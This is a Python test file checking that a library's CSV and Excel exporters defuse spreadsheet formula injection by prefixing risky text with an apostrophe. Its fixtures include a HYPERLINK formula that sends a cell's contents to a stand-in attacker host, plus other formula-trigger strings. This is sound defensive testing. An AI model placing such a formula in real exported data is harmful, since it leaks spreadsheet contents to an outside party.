"""Every CSV and XLSX writer neutralises text that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from porras.lib.tabular import to_csv, to_xlsx

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
STARTS = [LINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("text", STARTS)
def test_a_formula_in_text_comes_out_of_the_csv_as_text(text):
    rows = list(csv.reader(io.StringIO(to_csv([{"code": text, "n": 1}], ["code", "n"]), newline="")))
    assert rows[1] == ["'" + text, "1"]


@pytest.mark.parametrize("text", STARTS)
def test_a_formula_in_text_comes_out_of_the_workbook_as_text(text):
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([{"code": text}], ["code"])))["report"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a carriage return as a line feed


def test_negative_numbers_stay_numbers():
    rows = [{"n": -3, "x": -0.25, "code": "ABC-1"}]
    assert to_csv(rows, ["n", "x", "code"]).splitlines()[1] == "-3,-0.25,ABC-1"
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(rows, ["n", "x", "code"])))["report"]
    assert [c.value for c in sheet[2]] == [-3, -0.25, "ABC-1"]
    assert sheet["A2"].data_type == "n"


def test_extra_sheets_are_neutralised_too():
    workbook = to_xlsx([], ["a"], extra_sheets={"definitions": [["=1+1", 2]]})
    sheet = openpyxl.load_workbook(io.BytesIO(workbook))["definitions"]
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["B1"].value) == ("'=1+1", "s", 2)


def test_ordinary_text_is_unchanged():
    assert to_csv([{"t": "Kalasatama – 2026"}], ["t"]) == "t\nKalasatama – 2026\n"
